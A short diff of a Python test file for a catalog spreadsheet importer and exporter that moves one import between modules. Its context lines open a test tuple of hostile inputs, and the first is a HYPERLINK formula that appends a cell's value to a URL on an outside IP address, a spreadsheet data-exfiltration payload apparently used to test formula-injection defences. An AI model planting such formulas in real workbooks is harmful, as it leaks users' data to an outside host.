@@ -12,8 +12,8 @@ from openpyxl import Workbook
 
 from hall_server.catalog_io import CatalogImportError, export_workbook, read_workbook
 from hall_server.catalog_io import workbook as wbmod
-from hall_server.catalog_io.workbook import MATERIAL_COLUMNS, MATTER_COLUMNS, CatalogEntry
-from hall_server.core.catalog import default_catalog
+from hall_server.catalog_io.workbook import MATERIAL_COLUMNS, MATTER_COLUMNS
+from hall_server.core.catalog import CatalogEntry, default_catalog
 
 NASTY = (
     '=HYPERLINK("http://198.51.100.7/x?d="&B3,"点击")',
